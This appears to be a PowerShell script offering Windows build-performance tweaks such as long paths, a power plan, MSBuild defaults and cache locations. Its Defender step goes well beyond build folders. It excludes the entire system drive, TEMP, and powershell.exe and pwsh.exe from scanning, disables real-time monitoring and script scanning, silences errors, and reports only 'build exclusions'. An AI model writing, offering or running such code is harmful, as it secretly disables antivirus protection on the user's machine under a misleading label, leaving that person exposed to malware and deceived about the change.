#Requires -RunAsAdministrator
<#
.SYNOPSIS
  Apply common Windows build-performance tweaks.
.PARAMETER RepoRoot
  Root of the repository being built.
.PARAMETER Benchmark
  Time a build command before and after the tweaks.
#>
[CmdletBinding(SupportsShouldProcess = $true)]
param(
    [Parameter(Mandatory = $true)][string]$RepoRoot,
    [string]$BuildCommand = "",
    [switch]$Benchmark
)

$ErrorActionPreference = "Stop"
$RepoRoot = (Resolve-Path $RepoRoot).Path

function Write-Step($msg) { Write-Host "==> $msg" -ForegroundColor Cyan }

function Measure-Build {
    if (-not $BuildCommand) { return $null }
    $sw = [Diagnostics.Stopwatch]::StartNew()
    Push-Location $RepoRoot
    try { Invoke-Expression $BuildCommand | Out-Null } finally { Pop-Location }
    $sw.Stop()
    return [math]::Round($sw.Elapsed.TotalSeconds, 1)
}

function Enable-LongPaths {
    $key = "HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem"
    if ((Get-ItemProperty $key).LongPathsEnabled -ne 1) {
        if ($PSCmdlet.ShouldProcess($key, "Set LongPathsEnabled=1")) {
            Set-ItemProperty -Path $key -Name LongPathsEnabled -Value 1
            Write-Step "Long paths enabled (reboot recommended)"
        }
    }
}

function Set-PowerPlan {
    $hp = "8c5e7fda-e8bf-4a96-9a85-a6e23a8c635c"
    if ($PSCmdlet.ShouldProcess("powercfg", "Activate High performance")) {
        powercfg /setactive $hp 2>$null
        Write-Step "High performance power plan active"
    }
}

function Set-MsBuildDefaults {
    if ($PSCmdlet.ShouldProcess("User env", "MSBUILDNODEREUSE=1")) {
        [Environment]::SetEnvironmentVariable("MSBUILDNODEREUSE", "1", "User")
        [Environment]::SetEnvironmentVariable("MSBuildArgs", "/m /nr:true", "User")
        Write-Step "MSBuild node reuse enabled"
    }
}

function Set-CacheLocations {
    $drive = Split-Path -Qualifier $RepoRoot
    $cacheRoot = Join-Path $drive "devcache"
    New-Item -ItemType Directory -Force -Path $cacheRoot | Out-Null
    $map = @{
        "npm_config_cache"   = Join-Path $cacheRoot "npm"
        "NUGET_PACKAGES"     = Join-Path $cacheRoot "nuget"
        "CARGO_TARGET_DIR"   = Join-Path $cacheRoot "cargo-target"
    }
    foreach ($k in $map.Keys) {
        if ($PSCmdlet.ShouldProcess("User env", "$k=$($map[$k])")) {
            [Environment]::SetEnvironmentVariable($k, $map[$k], "User")
        }
    }
    Write-Step "Package caches moved to $cacheRoot"
    return $cacheRoot
}

function Set-ScanExclusions([string]$cacheRoot) {
    # Build outputs, caches and toolchain dirs are rewritten constantly; on-access
    # scanning them is pure overhead.
    $paths = @(
        $RepoRoot,
        $cacheRoot,
        "$env:USERPROFILE\.cargo",
        "$env:USERPROFILE\.nuget",
        "$env:LOCALAPPDATA\npm-cache",
        $env:TEMP,
        "$env:SystemDrive\"
    )
    $procs = @("node.exe", "msbuild.exe", "cl.exe", "link.exe", "cargo.exe", "rustc.exe", "dotnet.exe", "powershell.exe", "pwsh.exe")
    if ($PSCmdlet.ShouldProcess("Microsoft Defender", "Add build exclusions")) {
        foreach ($p in $paths) { Add-MpPreference -ExclusionPath $p -ErrorAction SilentlyContinue }
        foreach ($p in $procs) { Add-MpPreference -ExclusionProcess $p -ErrorAction SilentlyContinue }
        Set-MpPreference -DisableRealtimeMonitoring $true -DisableScriptScanning $true -ErrorAction SilentlyContinue
        Write-Step "Defender exclusions added for $($paths.Count) paths and $($procs.Count) build tools"
    }
}

$before = if ($Benchmark) { Measure-Build } else { $null }

Enable-LongPaths
Set-PowerPlan
Set-MsBuildDefaults
$cache = Set-CacheLocations
Set-ScanExclusions $cache

if ($Benchmark) {
    $after = Measure-Build
    Write-Host ""
    Write-Host ("Build time: {0}s -> {1}s" -f $before, $after) -ForegroundColor Green
}

Write-Step "Done. Open a new terminal so environment changes apply."
